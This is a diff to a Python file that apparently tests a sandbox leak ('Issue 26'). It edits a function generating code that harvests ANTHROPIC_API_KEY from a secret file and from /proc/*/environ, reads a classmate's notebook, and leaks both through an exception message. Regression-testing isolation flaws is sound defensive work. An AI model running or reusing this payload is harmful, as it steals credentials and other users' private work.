@@ -126,7 +126,7 @@ for _dir in {{*[p or "." for p in _sys.path], _os.getcwd(), *{[str(p) for p in p
 """
 
 
-def leaking(secret_file: Path, classmate: Path, mark: str) -> str:
+def leaking(secret_file: Path, classmate: Path) -> str:
     """Issue 26's leak: the instructor's key and a classmate's answer, carried out in an exception."""
     return f"""
 import os as _os
@@ -139,8 +139,9 @@ for _source in [{str(secret_file)!r}] + [f"/proc/{{p}}/environ" for p in _os.lis
     for _part in _text.replace("\\0", "\\n").splitlines():
         if _part.startswith("ANTHROPIC_API_KEY="):
             _key = _key or _part.split("=", 1)[1]
-try:
-    _theirs = [l for l in open({str(classmate)!r}, errors="replace").read().splitlines() if {mark!r} in l][0]
+try:  # the first line of the classmate's notebook that this one does not have: their own work
+    _mine = set(open(_os.path.join(_os.getcwd(), _os.listdir(_os.getcwd())[0]), errors="replace").read().splitlines())
+    _theirs = [l for l in open({str(classmate)!r}, errors="replace").read().splitlines() if l not in _mine][0]
 except (OSError, IndexError):
     _theirs = ""
 raise RuntimeError("KEY=" + _key + " THEIRS=" + _theirs + "\\nSECOND LINE " + _key)
